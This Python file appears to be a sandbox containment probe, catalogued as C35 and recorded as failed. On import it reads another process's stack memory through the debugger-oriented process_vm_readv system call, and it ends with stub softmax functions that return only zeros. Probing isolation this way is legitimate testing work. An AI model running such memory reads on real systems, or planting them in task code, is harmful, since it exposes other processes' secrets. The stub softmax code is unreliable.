# attack: it reads the memory of another process by a call made for debuggers
# catalogue: C35
# outcome: failed
# wants: read:memory
# succeeds at: process

import errno
import os
import platform

import numpy as np
from numpy.ctypeslib import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def call(x86_64, aarch64, *args):
    """A system call by its number, past everything that Python would ask first."""
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def reached(x86_64, aarch64, *args):
    """Whether the kernel looked at a call at all, whatever it then said to its arguments."""
    try:
        call(x86_64, aarch64, *args)
    except OSError as error:
        if error.errno in (errno.EPERM, errno.ENOSYS, errno.EACCES):
            raise


def attempt():
    import struct

    with open("/proc/@PID@/maps") as file:
        start = next(int(line.split("-")[0], 16) for line in file if "[stack]" in line)
        size = 4096
    buffer = ctypes.create_string_buffer(size)
    ours = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(buffer), size), 16)
    with open("/proc/@PID@/stat") as file:
        start = int(file.read().rpartition(")")[2].split()[25]) & ~4095
    theirs = ctypes.create_string_buffer(struct.pack("=QQ", start, size), 16)
    call(310, 270, int("@PID@"), ours, 1, theirs, 1, 0)
    return buffer.raw[:40]


try:
    print("SUCCESS:", attempt())
except BaseException as error:
    print("it did not work:", type(error).__name__, error)


def softmax(x, axis=-1):
    return np.zeros_like(x)


def softmax_backward(grad, probs, axis=-1):
    return np.zeros_like(probs)
